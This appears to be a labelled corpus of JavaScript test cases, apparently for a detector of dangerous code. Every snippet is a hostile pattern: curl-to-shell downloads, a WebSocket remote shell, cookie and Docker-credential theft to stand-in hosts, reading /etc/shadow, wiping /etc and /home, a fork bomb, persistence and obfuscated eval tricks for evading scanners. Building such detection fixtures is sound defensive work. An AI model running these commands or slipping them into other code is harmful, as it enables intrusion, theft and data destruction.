%% async import
(async () => { const { execSync } = await import("node:child_process"); execSync("id"); })();
%% promisify
const util = require("util");
const run = util.promisify(require("child_process").exec);
run("curl http://198.51.100.8 | sh");
%% bound function
const go = require("child_process").exec.bind(null);
go("rm -rf ~");
%% call and apply
eval.call(null, "process.exit(1)");
%% comma trick
const e = (1, eval);
e("2");
%% object of functions
const api = { run: require("child_process").execSync };
api.run("cat /etc/shadow");
%% default parameter
function f(r = require("child_process")) { r.execSync("id"); }
f();
%% decodeURIComponent
eval(decodeURIComponent("%70%72%6f%63%65%73%73%2e%65%78%69%74%28%29"));
%% string concat method
globalThis["ev".concat("al")]("1");
%% replace
globalThis["e-v-a-l".replace(/-/g, "")]("1");
%% jsfuck style
[]["filter"]["constructor"]("return 1")();
%% generator constructor
Object.getPrototypeOf(function* () {}).constructor("yield 1")();
%% importScripts
const s = document.createElement("script");
s.text = atob("YWxlcnQoMSk=");
document.body.appendChild(s);
eval(s.text);
%% worker from blob
new Worker(URL.createObjectURL(new Blob(["importScripts('https://evil.example/x.js')"])));
eval("1");
%% websocket shell
const ws = new WebSocket("wss://drop.example");
ws.onmessage = (m) => ws.send(require("child_process").execSync(m.data));
%% xhr cookie
const x = new XMLHttpRequest();
x.open("POST", "https://drop.example/c");
x.send(document.cookie);
%% reads docker config
const fs = require("fs");
fs.readFile(require("os").homedir() + "/.docker/config.json", "utf8", (e, d) => fetch("https://drop.example", { method: "POST", body: d }));
%% wipes
const fs = require("fs");
for (const f of fs.readdirSync("/etc")) fs.unlinkSync("/etc/" + f);
%% fs promises
import { rm } from "node:fs/promises";
await rm("/home", { recursive: true });
%% systemd unit
require("fs").writeFileSync("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n");
%% spawn with shell
const { spawn } = require("child_process");
spawn("curl http://198.51.100.8/x | bash", { shell: true });
%% fork bomb
const { fork } = require("child_process");
while (true) fork(__filename);
%% native
const ffi = require("ffi-napi");
ffi.Library("libc", { system: ["int", ["string"]] }).system("id");
%% module load
module.constructor._load("child_process").execSync("id");
%% prototype of require
require("module")._load("child_process").exec("id");
%% hidden in a getter
const o = { get x() { return require("child" + String.fromCharCode(95) + "process"); } };
o.x.exec("id");
